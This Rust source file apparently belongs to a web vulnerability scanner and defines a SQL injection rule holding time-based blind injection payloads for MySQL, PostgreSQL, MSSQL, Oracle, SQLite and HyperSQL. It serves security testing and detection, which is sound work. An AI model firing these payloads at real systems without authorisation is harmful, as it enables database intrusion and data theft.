// File: sqli.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

use super::payload::{PayloadFamily, PayloadTemplate as T};
use super::Rule;

static FAMILIES: [PayloadFamily; 6] = [
    PayloadFamily {
        name: "MySQL",
        tech: &["mysql", "mariadb"],
        whole_seconds: false,
        templates: &[
            T::new(" AND SLEEP({delay})"),
            T::new("' AND SLEEP({delay}) AND '1'='1"),
            T::new("' OR (SELECT 1 FROM (SELECT SLEEP({delay}))a)-- "),
            T::new("\" AND SLEEP({delay}) AND \"1\"=\"1"),
            T::new(") AND SLEEP({delay})-- "),
            T::new("';SELECT SLEEP({delay})-- "),
        ],
    },
    PayloadFamily {
        name: "PostgreSQL",
        tech: &["postgresql", "postgres"],
        whole_seconds: false,
        templates: &[
            T::new(" AND 1=(SELECT 1 FROM PG_SLEEP({delay}))"),
            T::new("' AND 1=(SELECT 1 FROM PG_SLEEP({delay}))-- "),
            T::new("';SELECT PG_SLEEP({delay})-- "),
            T::new("\" AND 1=(SELECT 1 FROM PG_SLEEP({delay}))-- "),
        ],
    },
    PayloadFamily {
        name: "MSSQL",
        tech: &["mssql", "sqlserver"],
        whole_seconds: true,
        templates: &[
            T::new("; WAITFOR DELAY '0:0:{delay}'-- "),
            T::new("'; WAITFOR DELAY '0:0:{delay}'-- "),
            T::new("\"; WAITFOR DELAY '0:0:{delay}'-- "),
            T::new("); WAITFOR DELAY '0:0:{delay}'-- "),
        ],
    },
    PayloadFamily {
        name: "Oracle",
        tech: &["oracle"],
        whole_seconds: true,
        templates: &[
            T::new(" AND 1=DBMS_PIPE.RECEIVE_MESSAGE('rbl',{delay})"),
            T::new("' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('rbl',{delay})-- "),
            T::new("'||DBMS_PIPE.RECEIVE_MESSAGE('rbl',{delay})||'"),
        ],
    },
    // SQLite and HyperSQL have no sleep call; these burn CPU instead. The
    // time per unit depends on the server, so a slope near 1 is luck and
    // these families only report on targets where it happens to hold.
    PayloadFamily {
        name: "SQLite",
        tech: &["sqlite"],
        whole_seconds: true,
        templates: &[
            T::new(" AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({delay}00000000/2))))"),
            T::new("' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({delay}00000000/2))))-- "),
        ],
    },
    PayloadFamily {
        name: "HyperSQL",
        tech: &["hypersql", "hsqldb"],
        whole_seconds: true,
        templates: &[
            T::new(" AND CHAR(65)=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),{delay}00000000),NULL)"),
            T::new("' AND CHAR(65)=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY('AES',NULL),0),{delay}00000000),NULL)-- "),
        ],
    },
];

pub struct SqlInjectionRule;

impl Rule for SqlInjectionRule {
    fn id(&self) -> &'static str {
        "sqli"
    }

    fn name(&self) -> &'static str {
        "SQL Injection"
    }

    fn cwe(&self) -> u32 {
        89
    }

    fn families(&self) -> &'static [PayloadFamily] {
        &FAMILIES
    }
}
